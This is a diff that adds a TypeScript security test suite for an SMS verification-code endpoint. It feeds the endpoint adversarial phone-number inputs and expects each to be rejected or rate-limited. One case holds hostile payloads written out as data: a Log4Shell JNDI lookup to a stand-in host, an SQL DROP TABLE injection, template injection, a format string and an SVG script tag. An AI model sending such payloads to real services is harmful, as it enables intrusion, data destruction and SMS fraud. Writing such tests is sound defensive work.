@@ -1,0 +1,160 @@
+import { askForCode, newMobile, newVisitor } from '../support/visitor.ts'
+import {
+  accepted,
+  type Attack,
+  envelope,
+  invalid,
+  nothing,
+  oneSms,
+  problem,
+  times,
+  waitProblem,
+} from './attack.ts'
+import { ask, askClassic } from './calls.ts'
+import type { World } from './world.ts'
+
+const askFor = (world: World, ...mobiles: readonly unknown[]) =>
+  ask(world, ...mobiles.map((mobile) => ({ mobile })))
+
+export const numberAttacks: readonly Attack[] = [
+  {
+    attack: 'bombs one number in all its spellings',
+    source: 'CWE-180',
+    how: async (world) => {
+      const mobile = newMobile()
+      const [area, middle, last] = [mobile.slice(0, 3), mobile.slice(3, 7), mobile.slice(7)]
+      const wide = mobile.replaceAll(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit)))
+      const spellings = [`+86${mobile}`, `0086${mobile}`, `86${mobile}`, `+86 (${area}) ${middle}-${last}`]
+      const all = [
+        mobile,
+        ...spellings,
+        `＋86${wide}`,
+        wide,
+        `0${mobile}`,
+        ` ${area}\u00a0${middle}\u2011${last} `,
+      ]
+      return all.map((spelling) => () => askForCode(world, newVisitor(world), spelling))
+    },
+    expected: [accepted, ...times(8, waitProblem('sms_too_frequent'))],
+    effects: oneSms,
+  },
+  {
+    attack: 'pumps numbers of other countries, of premium and of satellite services',
+    source: 'CWE-799',
+    how: (world) =>
+      askFor(
+        world,
+        '+14155550132',
+        '+447400123456',
+        '+85291234567',
+        '+37410312345',
+        '+8821612345678',
+        '+979123456789',
+        newMobile(),
+      ),
+    expected: [
+      ...times(3, problem('country_not_supported', { detail: 'We send to CN only.' })),
+      ...times(3, invalid('/mobile')),
+      accepted,
+    ],
+    effects: oneSms,
+  },
+  {
+    attack: 'asks for an SMS to landlines, short codes and hotlines',
+    source: 'ASVS 2.2.1',
+    how: (world) => askFor(world, '+861012345678', '10086', '12345', '95588', '4008001234', '110', '+86110'),
+    expected: times(7, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'writes two numbers into one',
+    source: 'CWE-88',
+    how: (world) => {
+      const [one, other] = [newMobile(), newMobile()]
+      return askFor(
+        world,
+        ...[',', ';', ' ', '\n', '\r\n', '\0', '|', '&mobile=', '', '/'].map((join) => one + join + other),
+      )
+    },
+    expected: times(10, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'writes a number as a URI, with an extension, in letters, or with a line end',
+    source: 'RFC 3966',
+    how: (world) => {
+      const mobile = newMobile()
+      const tricks = [`tel:+86${mobile}`, `+86${mobile};ext=1`, `${mobile}x1`, `${mobile}#1`, `${mobile},,1`]
+      return askFor(
+        world,
+        ...tricks,
+        `${mobile}\n`,
+        `${mobile}\0`,
+        '1-38O-OOO-OOOO',
+        `+86${mobile};phone-context=+1`,
+      )
+    },
+    expected: times(9, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'writes a number in Arabic, Devanagari and mathematical digits',
+    source: 'Unicode TR36',
+    how: (world) =>
+      askFor(
+        world,
+        ...[0x0660, 0x06f0, 0x0966, 0x1d7ce].map((zero) =>
+          newMobile().replaceAll(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit))),
+        ),
+      ),
+    expected: times(4, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'sends a number as a number, a list, an object or true',
+    source: 'ASVS 15.3.5',
+    how: (world) => {
+      const mobile = newMobile()
+      return askFor(world, Number(mobile), [mobile], [mobile, newMobile()], { $ne: mobile }, true, [[]])
+    },
+    expected: times(6, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'puts templates, look-ups and format strings where the number belongs',
+    source: 'ASVS 1.3.7',
+    how: (world) =>
+      askFor(
+        world,
+        '{{7*7}}',
+        '${jndi:ldap://evil.example/a}',
+        '%s%s%n',
+        "'; DROP TABLE user; --",
+        '<svg onload=x>',
+      ),
+    expected: times(5, invalid('/mobile')),
+    effects: nothing,
+  },
+  {
+    attack: 'hides more in the number of a classic path',
+    source: 'CWE-22',
+    how: (world) => {
+      const mobile = newMobile()
+      const paths = [
+        `${mobile}%00`,
+        `${mobile}%0a`,
+        `${mobile}%2f..`,
+        `${mobile};a=b`,
+        `${mobile},${newMobile()}`,
+        '%2e%2e',
+      ]
+      return askClassic(world, [...paths.map((path) => ({ path })), { path: `${mobile}%ff` }])
+    },
+    expected: [
+      ...times(5, envelope('invalid_parameters')),
+      problem('not_found'),
+      envelope('invalid_parameters'),
+    ],
+    effects: nothing,
+  },
+]
